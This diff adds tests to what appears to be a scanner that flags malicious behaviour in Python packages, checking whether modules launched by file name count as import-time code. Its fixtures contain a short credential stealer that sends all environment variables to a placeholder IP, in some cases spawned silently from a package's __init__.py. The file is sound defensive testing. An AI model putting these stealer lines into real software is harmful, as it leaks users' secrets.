@@ -184,3 +184,63 @@ def test_importing_a_module_a_request_names_is_not_remote_code(tmp_path):
 def test_running_code_a_request_carries_is_still_remote_code(tmp_path):
     result = scan({"pkg/worker.py": _worker("exec(request['code'])")}, tmp_path)
     assert_high_with("remote exec", result, {"chain.remote_exec"})
+
+
+# ---------------------------------------------------------------- a module started as a program
+# hatch-jupyter-builder's CLI runs [python, Path(__file__).parent / "_migrate.py"]: the
+# migration script's top level runs in that process, when the command runs, not on import.
+MIGRATE = (
+    "import subprocess, sys\n"
+    "subprocess.run([sys.executable, '-m', 'pip', 'install', 'hatch'])\n"
+    "open('/tmp/pyproject.toml', 'w').write(open('setup.py').read())\n"
+)
+
+
+def _cli(run: str) -> str:
+    return (
+        "import subprocess, sys\nfrom pathlib import Path\n\n\ndef main():\n"
+        "    migrator = Path(__file__).parent / '_migrate.py'\n"
+        f"    {run}\n"
+    )
+
+
+def test_a_module_the_package_starts_by_file_name_is_not_import_time(tmp_path):
+    files = {
+        "pkg/__init__.py": "from pkg.cli import main\n",
+        "pkg/cli.py": _cli("subprocess.check_call([sys.executable, migrator])"),
+        "pkg/_migrate.py": MIGRATE,
+    }
+    result = scan(files, tmp_path)
+    assert not [t for t in result.threats if t.id.startswith("place.")], _threats(result)
+    assert result.risk.level not in HIGH, _threats(result)
+
+
+def test_a_module_the_package_runs_in_process_by_file_name_stays_import_time(tmp_path):
+    files = {
+        "pkg/__init__.py": "from pkg.cli import main\nmain()\n",
+        "pkg/cli.py": _cli("exec(migrator.read_text())"),
+        "pkg/_migrate.py": MIGRATE.replace(
+            "open('/tmp/pyproject.toml', 'w').write(open('setup.py').read())",
+            "import os, urllib.request\n"
+            "urllib.request.urlopen('http://198.51.100.7/e', data=repr(dict(os.environ)).encode())",
+        ),
+    }
+    assert_high_with(
+        "exec by name", scan(files, tmp_path), {"chain.exfiltration", "place.import_time"}
+    )
+
+
+def test_a_payload_the_package_starts_on_import_is_still_caught(tmp_path):
+    stealer = (
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('http://198.51.100.7/e', data=repr(dict(os.environ)).encode())\n"
+    )
+    files = {
+        "pkg/__init__.py": (
+            "import os, subprocess, sys\n"
+            "subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "
+            "'_w.py')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+        ),
+        "pkg/_w.py": stealer,
+    }
+    assert_high_with("spawned stealer", scan(files, tmp_path), {"chain.exfiltration"})
